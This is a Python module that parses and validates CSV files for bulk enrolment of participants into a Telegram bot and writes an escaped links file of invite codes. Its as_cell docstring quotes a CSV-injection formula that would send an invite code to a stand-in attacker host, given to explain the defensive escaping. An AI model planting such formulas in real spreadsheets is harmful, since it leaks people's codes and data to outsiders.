"""Bulk enrolment from a CSV file: reading and checking rows, and the links file written after (all pure).

Reading takes bytes and the programme's learning sets and gives validated rows or every problem at
once, with row numbers as a spreadsheet shows them (the header is row 1). The invites themselves are
made in bot/store/imports.py, all or nothing; a person imported before keeps their invite, so
importing the same file twice creates nothing twice. What it did for each row (`Invited`) is
defined here, so that the links file is written without the store.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import datetime

MAX_BYTES = 10 * 1024 * 1024
MAX_NAME = 100
MAX_EMAIL = 254
DELIMITERS = (",", ";", "\t")
OUTPUT_COLUMNS = ("name", "email", "set", "language", "role", "code", "link", "expires", "status")
NEW = "new"
ALREADY = "already invited"

# Header names (compared after lower-casing and squeezing spaces, hyphens and underscores out).
COLUMN_ALIASES: Mapping[str, tuple[str, ...]] = {
    "name": ("name", "naam", "fullname", "volledigenaam"),
    "set": (
        "set",
        "learningset",
        "actionlearningset",
        "group",
        "groep",
        "leergroep",
        "intervisiegroep",
    ),
    "language": ("language", "lang", "taal"),
    "role": ("role", "rol"),
    "email": ("email", "emailaddress", "emailadres", "mail", "mailadres"),
}
LANGUAGE_WORDS: Mapping[str, str] = {
    "en": "en",
    "eng": "en",
    "english": "en",
    "engels": "en",
    "anglais": "en",
    "englisch": "en",
    "nl": "nl",
    "nld": "nl",
    "dut": "nl",
    "dutch": "nl",
    "nederlands": "nl",
    "nederlandse": "nl",
    "néerlandais": "nl",
    "niederländisch": "nl",
    "vlaams": "nl",
    "flemish": "nl",
}
ROLE_WORDS: Mapping[str, str] = {
    "participant": "participant",
    "deelnemer": "participant",
    "facilitator": "facilitator",
    "begeleider": "facilitator",
    "procesbegeleider": "facilitator",
}
EMAIL = re.compile(r"^[^@\s]+@[^@\s]+\.[^@\s]+$")


class FileProblem(Exception):
    """The file as a whole cannot be imported; the message is one sentence."""


@dataclass(frozen=True)
class RowProblem:
    """Why one row cannot be imported."""

    row: int
    reason: str

    def __str__(self) -> str:
        return f"row {self.row}: {self.reason}"


@dataclass(frozen=True)
class Enrolee:
    """A checked row: one person to invite."""

    row: int
    name: str
    set_key: str
    language: str
    role: str
    email: str = ""

    def person_key(self) -> str:
        """Gives what recognises this person across imports: the e-mail address, else set and name."""
        return self.email.lower() if self.email else self.name_key()

    def name_key(self) -> str:
        """Gives the key by set and normalised name."""
        return f"{self.set_key}:{normalised_name(self.name)}"

    def import_ref(self, programme_key: str) -> str:
        """Gives the invite's import_ref: stable for the same person in the same programme."""
        return f"{programme_key}:{self.person_key()}"


@dataclass(frozen=True)
class Invited:
    """What the import did for one row: its invite's code and whether the invite is new."""

    enrolee: Enrolee
    code: str
    expires_at: datetime
    status: str  # NEW | ALREADY
    # What the existing invite says, when it differs from the row (it is kept as it was).
    differences: tuple[str, ...] = ()
    used: bool = False
    # For an existing invite: the set, language, role and name it carries (the link does what it says).
    set_key: str = ""
    language: str = ""
    role: str = ""
    name: str = ""


@dataclass(frozen=True)
class Reading:
    """What a file held: checked rows, or the problems that stop the import."""

    enrolees: tuple[Enrolee, ...]
    problems: tuple[RowProblem, ...]
    delimiter: str
    with_bom: bool  # write the links file as Excel would read it best: like the input
    ignored_columns: tuple[str, ...] = ()

    @property
    def bad_rows(self) -> int:
        """Gives how many rows have at least one problem."""
        return len({p.row for p in self.problems})


@dataclass(frozen=True)
class Table:
    """A CSV file split into its header and records, each record with its spreadsheet row number."""

    delimiter: str
    header_row: int
    header: tuple[str, ...]
    records: tuple[tuple[int, tuple[str, ...]], ...]


def normalised_name(name: str) -> str:
    """Gives a name as compared: Unicode-normalised, case-folded, single spaces."""
    return " ".join(unicodedata.normalize("NFKC", name).casefold().split())


# --------------------------------------------------------------------------- reading (pure)


def decode(raw: bytes) -> tuple[str, bool]:
    """Gives the text of a CSV file and whether it came from Excel-like encodings (BOM or cp1252)."""
    if raw.startswith((b"PK\x03\x04", b"\xd0\xcf\x11\xe0")):  # xlsx, xls
        raise FileProblem(
            "is a spreadsheet workbook, not CSV; save it as CSV (comma- or semicolon-separated) first."
        )
    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
        try:
            return raw.decode("utf-16"), True
        except UnicodeDecodeError:
            raise FileProblem("cannot be read as text (broken UTF-16).") from None
    if b"\x00" in raw:
        raise FileProblem("holds binary data, not CSV text.")
    if raw.startswith(b"\xef\xbb\xbf"):
        try:
            return raw[3:].decode("utf-8"), True
        except UnicodeDecodeError:
            raise FileProblem("starts like UTF-8 but is not valid UTF-8 text.") from None
    try:
        return raw.decode("utf-8"), False
    except UnicodeDecodeError:
        pass
    try:
        return raw.decode("cp1252"), True
    except UnicodeDecodeError:
        raise FileProblem("cannot be read as text (neither UTF-8 nor Windows-1252).") from None


def sniff_delimiter(line: str) -> str:
    """Gives the delimiter that splits the header line into the most columns (comma when none)."""
    best, most = ",", 1
    for delimiter in DELIMITERS:
        columns = len(next(csv.reader([line], delimiter=delimiter), []))
        if columns > most:
            best, most = delimiter, columns
    return best


def split_table(text: str) -> Table:
    """Gives the header and the non-empty records of CSV text, or raises FileProblem."""
    if not text.strip():
        raise FileProblem("is empty.")
    first = next(line for line in text.splitlines() if line.strip())
    # Excel understands a first line `sep=;` naming the delimiter; it is not the header.
    directive = re.fullmatch(r"\s*sep=([,;\t|])\s*", first)
    delimiter = directive.group(1) if directive else sniff_delimiter(first)
    header: tuple[str, ...] | None = None
    header_row = 0
    skip_directive = directive is not None
    records: list[tuple[int, tuple[str, ...]]] = []
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    try:
        # Row numbers count records, as a spreadsheet does: a quoted cell with a line break is one row.
        for number, fields in enumerate(reader, start=1):
            stripped = tuple(f.strip() for f in fields)
            if not any(stripped):
                continue
            if skip_directive:
                skip_directive = False
                continue
            if header is None:
                header, header_row = stripped, number
            else:
                records.append((number, stripped))
    except csv.Error as exc:
        raise FileProblem(f"is not readable as CSV near line {reader.line_num} ({exc}).") from None
    if header is None:
        raise FileProblem("is empty.")
    return Table(delimiter, header_row, header, tuple(records))


def _header_word(text: str) -> str:
    return re.sub(r"[\s_\-.*:]+", "", text.lstrip("\ufeff").casefold())


def map_columns(header: Sequence[str]) -> tuple[dict[str, int], tuple[str, ...]]:
    """Gives which column holds which field, and the header names that are not read.

    Raises FileProblem for a missing name column or a field named by two columns.
    """
    lookup = {alias: name for name, aliases in COLUMN_ALIASES.items() for alias in aliases}
    columns: dict[str, int] = {}
    ignored: list[str] = []
    for index, title in enumerate(header):
        name = lookup.get(_header_word(title))
        if name is None:
            if title:
                ignored.append(title)
            continue
        if name in columns:
            raise FileProblem(
                f"has two columns for {name}: {header[columns[name]]!r} and {title!r}."
            )
        columns[name] = index
    if "name" not in columns:
        found = ", ".join(_shown(t) for t in header if t) or "nothing"
        raise FileProblem(
            "needs a header row with a name column (name or naam, and optionally set/groep/leergroep,"
            f" language/taal, role/rol, email/e-mail); its header row holds {found}."
        )
    return columns, tuple(ignored)


def _shown(value: str, limit: int = 40) -> str:
    """Gives a cell's value quoted for a problem line, cut short when long."""
    return repr(value if len(value) <= limit else value[: limit - 1] + "…")


def language_of(value: str) -> str | None:
    """Gives en or nl for the ways people write a language (English, Engels, NL, nl-BE…), else None."""
    word = value.strip().casefold().rstrip(".")
    if word in LANGUAGE_WORDS:
        return LANGUAGE_WORDS[word]
    prefix = re.split(r"[-_ ]", word, maxsplit=1)[0]
    return LANGUAGE_WORDS.get(prefix) if prefix in ("en", "nl") else None


def role_of(value: str) -> str | None:
    """Gives participant or facilitator for the ways people write a role, else None."""
    return ROLE_WORDS.get(value.strip().casefold())


def set_of(value: str, sets: Mapping[str, str]) -> str | None:
    """Gives the key of the learning set a cell names (by key or by name, any case), else None."""
    wanted = value.casefold()
    for key in sets:
        if key.casefold() == wanted:
            return key
    by_name = [
        key
        for key, name in sets.items()
        if " ".join(name.split()).casefold() == " ".join(wanted.split())
    ]
    return by_name[0] if len(by_name) == 1 else None


def check_rows(
    table: Table, sets: Mapping[str, str], default_language: str
) -> tuple[list[Enrolee], list[RowProblem], tuple[str, ...]]:
    """Gives the checked rows, every problem of every row, and the columns not read.

    `sets` maps each active learning set's key to its name. Nothing stops at the first problem.
    """
    columns, ignored = map_columns(table.header)
    known_sets = ", ".join(sorted(sets)) or "none"
    width = len(table.header)
    enrolees: list[Enrolee] = []
    problems: list[RowProblem] = []
    seen: dict[str, tuple[int, str]] = {}

    for row, fields in table.records:
        found: list[str] = []

        def cell(name: str, fields: tuple[str, ...] = fields) -> str:
            index = columns.get(name)
            return fields[index] if index is not None and index < len(fields) else ""

        extra = [f for f in fields[width:] if f]
        if extra:
            found.append(
                f"has {len(fields)} columns but the header has {width} (a stray delimiter or an unquoted comma?)"
            )

        broken = [column for column in COLUMN_ALIASES if any(c in cell(column) for c in "\r\n")]
        if broken:
            found.append(
                f"the {' and '.join(broken)} cell holds a line break (an unclosed quote in the file?)"
            )

        name = " ".join(cell("name").split())
        if not name:
            found.append("the name is missing")
        elif len(name) > MAX_NAME:
            found.append(f"the name is {len(name)} characters long; at most {MAX_NAME}")
        elif any(unicodedata.category(c) == "Cc" for c in name):
            found.append("the name holds a control character")

        role_text = cell("role")
        role = role_of(role_text) if role_text else "participant"
        set_text = cell("set")
        set_key = ""
        if set_text:
            matched = set_of(set_text, sets)
            if matched is None:
                found.append(f"unknown learning set {_shown(set_text)} (known sets: {known_sets})")
            else:
                set_key = matched
        elif role == "participant" and sets:
            found.append(f"a participant needs a learning set (known sets: {known_sets})")

        language_text = cell("language")
        language = language_of(language_text) if language_text else default_language
        if language is None:
            found.append(
                f"unknown language {_shown(language_text)} (use en/English/Engels or nl/Nederlands/Dutch)"
            )

        if role is None:
            found.append(
                f"unknown role {_shown(role_text)} (use participant/deelnemer or facilitator/begeleider)"
            )

        email = cell("email")
        if email and (len(email) > MAX_EMAIL or not EMAIL.match(email)):
            found.append(f"{_shown(email)} is not an e-mail address")

        if found:
            problems.extend(RowProblem(row, reason) for reason in found)
            continue
        assert role is not None and language is not None
        enrolee = Enrolee(row, name, set_key, language, role, email)
        key = enrolee.person_key()
        if key in seen:
            first, why = seen[key]
            problems.append(RowProblem(row, f"the same person as row {first} ({why})"))
            continue
        seen[key] = (row, "same e-mail address" if email else "same name and set")
        enrolees.append(enrolee)
    return enrolees, problems, ignored


def read_enrolees(raw: bytes, sets: Mapping[str, str], default_language: str) -> Reading:
    """Gives the checked rows of a CSV file, or every problem; raises FileProblem for a file that is no CSV of people."""
    if len(raw) > MAX_BYTES:
        raise FileProblem(
            f"is {len(raw):,} bytes; an import file is at most {MAX_BYTES // (1024 * 1024)} MB."
        )
    text, excel_like = decode(raw)
    table = split_table(text)
    if not table.records:
        map_columns(table.header)  # a file without a name column says so first
        raise FileProblem("has a header but no rows of people below it.")
    enrolees, problems, ignored = check_rows(table, sets, default_language)
    return Reading(tuple(enrolees), tuple(problems), table.delimiter, excel_like, ignored)


# --------------------------------------------------------------------------- the links file (pure)


def link_for(code: str, bot_username: str) -> str:
    """Gives the deep link of a code, or the `/start` command to send when the bot's username is unknown."""
    return (
        f"https://t.me/{bot_username.lstrip('@')}?start={code}"
        if bot_username
        else f"/start {code}"
    )


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_cell(value: str) -> str:
    """Gives a value a spreadsheet shows as text, never runs as a formula (OWASP's CSV injection advice).

    A cell that starts with = + - @, a tab or a carriage return gets a leading single quote: a name like
    `=HYPERLINK("http://evil.example/?x="&F2)` would otherwise send the invite code in column F away.
    """
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def links_csv(
    invited: Sequence[Invited],
    bot_username: str,
    last_day: Callable[[datetime], str],
    delimiter: str,
) -> str:
    """Gives the links file: one row per person with their code, link, last valid day and status."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(OUTPUT_COLUMNS)
    for i in invited:
        cells = (
            i.name,
            i.enrolee.email,
            i.set_key,
            i.language,
            i.role,
            i.code,
            link_for(i.code, bot_username),
            last_day(i.expires_at),
            i.status,
        )
        writer.writerow([as_cell(cell) for cell in cells])
    return out.getvalue()
